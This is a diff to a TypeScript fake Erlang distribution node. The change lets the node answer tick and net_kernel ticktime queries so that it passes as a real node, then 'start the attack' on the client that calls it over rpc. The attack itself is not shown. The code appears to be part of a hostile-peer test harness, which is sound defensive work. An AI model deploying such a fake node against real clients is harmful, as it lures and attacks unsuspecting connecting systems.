@@ -272,7 +272,8 @@ async function serve(socket: net.Socket, options: FakeNodeOptions, self: Atom, a
   a[0] = 97;
   digest(reply.readUInt32BE(1)).copy(a, 1);
   send(a);
-  // Frames: answer ticks; the first real frame (an rpc to rex) starts the attack.
+  // Frames: answer ticks, and net_kernel:get_net_ticktime() (which a client asks in the
+  // background, as 60); the first other frame (an rpc to rex) starts the attack, aimed at its caller.
   let caller: Pid | null = null;
   for (;;) {
     const len = (await need(4)).readUInt32BE(0);
@@ -282,7 +283,14 @@ async function serve(socket: net.Socket, options: FakeNodeOptions, self: Atom, a
     }
     const body = await need(len);
     const m = decodeFrame(body);
-    if (m.op === 'reg_send' && m.message instanceof Tuple && m.message.elements[0] instanceof Pid) caller = m.message.elements[0];
+    const call = m.op === 'reg_send' && m.message instanceof Tuple ? m.message : null;
+    const from = call?.elements[0];
+    const req = call?.elements[1];
+    if (from instanceof Pid && req instanceof Tuple && req.elements[1] instanceof Atom && req.elements[1].name === 'net_kernel') {
+      socket.write(rawFrame([DOP.SEND_SENDER, new Pid(self, 42, 0, 1), from], encode(new Tuple([Atom.of('rex'), 60]))));
+      continue;
+    }
+    if (from instanceof Pid) caller = from;
     break;
   }
   attackStarts.push(Date.now());
